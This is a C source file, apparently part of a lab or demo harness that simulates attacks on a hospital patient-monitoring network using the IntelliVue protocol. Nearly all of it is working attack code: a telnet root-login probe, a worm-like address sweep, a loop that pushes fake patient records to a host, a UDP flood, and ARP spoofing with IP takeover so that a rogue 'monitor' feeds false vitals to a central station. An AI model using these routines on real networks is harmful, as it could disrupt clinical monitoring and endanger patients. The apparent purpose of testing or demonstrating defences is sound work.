#include "demo/attacker.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <net/if.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#include "base/clock.h"
#include "demo/actor.h"
#include "demo/frame.h"
#include "demo/intellivue.h"
#include "demo/monitor.h"
#include "demo/service.h"

#define SWEEP	     80
#define STOLEN_BYTES (256 * 1024)
#define FLOOD_BYTES  1400
#define FLOOD_BURST  6 /* frames, then a quarter of a millisecond of rest */

static uint64_t after(int ms)
{
	return clock_mono_ns() + (uint64_t)ms * NSEC_PER_MSEC;
}

static int left(uint64_t end)
{
	uint64_t now = clock_mono_ns();

	return now < end ? (int)((end - now) / NSEC_PER_MSEC) + 1 : 0;
}

/* A socket on its way to ip:port, not waiting for it. */
static int reach(const char *ip, uint16_t port)
{
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port)};
	int sock = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);

	if (sock < 0)
		return -1;
	to.sin_addr.s_addr = frame_ip_of(ip);
	if (connect(sock, (struct sockaddr *)&to, sizeof(to)) && errno != EINPROGRESS) {
		close(sock);
		return -1;
	}
	return sock;
}

static bool ready(int sock, short events, uint64_t end)
{
	struct pollfd pfd = {.fd = sock, .events = events};

	return sock >= 0 && poll(&pfd, 1, left(end)) > 0 && !(pfd.revents & (POLLERR | POLLHUP));
}

int attacker_telnet(void *arg)
{
	const struct attacker *a = arg;
	uint64_t end = after(a->ms);
	int sock = reach(a->victim.ip, a->port);
	char text[256] = "";

	if (!ready(sock, POLLOUT, end) || !ready(sock, POLLIN, end) ||
	    recv(sock, text, sizeof(text) - 1, 0) <= 0 || !strstr(text, "login:"))
		return 1;
	(void)!send(sock, "root\r\n", 6, MSG_NOSIGNAL);
	usleep(100000);
	close(sock);
	return 0;
}

int attacker_worm(void *arg)
{
	const struct attacker *a = arg;
	struct pollfd fds[SWEEP];
	uint64_t end = after(a->ms);
	char ip[INET_ADDRSTRLEN];

	for (int i = 0; i < SWEEP; i++) {
		snprintf(ip, sizeof(ip), "%s%d", a->sweep, i + 1);
		fds[i] = (struct pollfd){.fd = reach(ip, a->port), .events = POLLOUT};
		if (i % 16 == 15)
			actor_sleep(
				20); /* a neighbour table takes only so many questions at once */
	}
	while (left(end) && poll(fds, SWEEP, left(end)) > 0) {
		for (int i = 0; i < SWEEP; i++) {
			if (!fds[i].revents)
				continue;
			if (fds[i].revents == POLLOUT)
				(void)!send(fds[i].fd, SERVICE_WORM, 4, MSG_NOSIGNAL);
			fds[i].events = 0;
			fds[i].fd = fds[i].revents == POLLOUT ? -fds[i].fd - 2 : -1;
		}
	}
	usleep(100000);
	return 0;
}

int attacker_exfiltrate(void *arg)
{
	static const uint8_t records[4096] =
		"PID|1||10006579^^^1^MRN^1||DUCK^DONALD^D||19241010|M\r";
	const struct attacker *a = arg;
	uint64_t end = after(a->ms);
	int sock = reach(a->victim.ip, a->port);
	size_t sent = 0;

	while (sent < STOLEN_BYTES && ready(sock, POLLOUT, end)) {
		ssize_t n = send(sock, records, sizeof(records), MSG_NOSIGNAL);

		if (n <= 0)
			break;
		sent += (size_t)n;
	}
	usleep(200000);
	return sent < STOLEN_BYTES;
}

int attacker_flood(void *arg)
{
	const struct attacker *a = arg;
	static uint8_t frame[2048], data[FLOOD_BYTES];
	uint64_t end = after(a->ms);
	int sock = frame_socket("eth0");
	size_t len =
		frame_udp(frame, sizeof(frame), a->victim.mac, a->self.mac, frame_ip_of(a->self.ip),
			  frame_ip_of(a->victim.ip), 40000, a->port, data, sizeof(data));

	if (sock < 0 || !len)
		return 1;
	while (left(end)) {
		for (int i = 0; i < FLOOD_BURST; i++)
			frame_send(sock, frame, len);
		usleep(250);
	}
	return 0;
}

/* Address and caches: what a machine that is plugged in with somebody else's address does. */
static int take_address(const struct attacker *a)
{
	const char *argv[] = {"ip", "addr", "add", NULL, "dev", "eth0", NULL};
	static const uint8_t all[6] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff};
	uint8_t frame[FRAME_ARP_LEN];
	char address[32];
	struct actor_tool ip = {.argv = argv};
	int sock = frame_socket("eth0"), err;

	if (sock < 0)
		return sock;
	snprintf(address, sizeof(address), "%s/32", a->victim.ip);
	argv[3] = address;
	err = actor_run(-1, &ip, 2000);
	frame_arp(frame, FRAME_ARP_REPLY, all, a->self.mac, frame_ip_of(a->victim.ip), all,
		  frame_ip_of(a->victim.ip));
	for (int i = 0; i < 3 && !err; i++) {
		frame_send(sock, frame, sizeof(frame));
		actor_sleep(100);
	}
	close(sock);
	return err;
}

static void give_back(const struct attacker *a)
{
	const char *argv[] = {"ip", "addr", "del", NULL, "dev", "eth0", NULL};
	struct actor_tool ip = {.argv = argv};
	char address[32];
	uint8_t frame[FRAME_ARP_LEN];
	int sock = frame_socket("eth0");

	snprintf(address, sizeof(address), "%s/32", a->victim.ip);
	argv[3] = address;
	actor_run(-1, &ip, 2000);
	/* the central shall find the true one again, or the next attack has no victim */
	frame_arp(frame, FRAME_ARP_REPLY, a->other.mac, a->victim.mac, frame_ip_of(a->victim.ip),
		  a->other.mac, frame_ip_of(a->other.ip));
	memcpy(frame + 6, a->self.mac, 6);
	if (sock >= 0) {
		frame_send(sock, frame, sizeof(frame));
		close(sock);
	}
}

/* Speaks up in the stolen address, as a monitor does that has just been switched on. */
static int introduce(const struct attacker *a)
{
	struct sockaddr_in self = {.sin_family = AF_INET}, to = self;
	struct ivue_message m = {.kind = IVUE_MDS_CREATE, .invoke = 1};
	uint8_t buf[256];
	struct writer w = writer_new(buf, sizeof(buf));
	int sock = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	self.sin_addr.s_addr = frame_ip_of(a->victim.ip);
	to.sin_addr.s_addr = frame_ip_of(a->other.ip);
	to.sin_port = htons(IVUE_PORT);
	ivue_write(&w, &m);
	if (sock < 0)
		return -errno;
	if (bind(sock, (struct sockaddr *)&self, sizeof(self)) == 0)
		(void)!sendto(sock, buf, w.len, MSG_DONTWAIT, (struct sockaddr *)&to, sizeof(to));
	return close(sock);
}

/* The rogue keeps telling the central where "the monitor" is, and its own vitals. */
int attacker_rogue_monitor(void *arg)
{
	const struct attacker *a = arg;
	struct monitor m = {
		.patient = a->patient, .from_block = 100000, .ip = a->victim.ip, .rogue = true};
	uint8_t frame[FRAME_ARP_LEN];
	int sock, err = take_address(a);
	uint64_t end;
	pid_t pid;

	if (err)
		return 1;
	pid = actor_start(-1, monitor_run, &m);
	sock = frame_socket("eth0");
	frame_arp(frame, FRAME_ARP_REPLY, a->other.mac, a->self.mac, frame_ip_of(a->victim.ip),
		  a->other.mac, frame_ip_of(a->other.ip));
	for (end = after(a->ms); left(end);) {
		frame_send(sock, frame, sizeof(frame));
		introduce(a);
		actor_sleep(200);
	}
	actor_stop(pid);
	give_back(a);
	return 0;
}
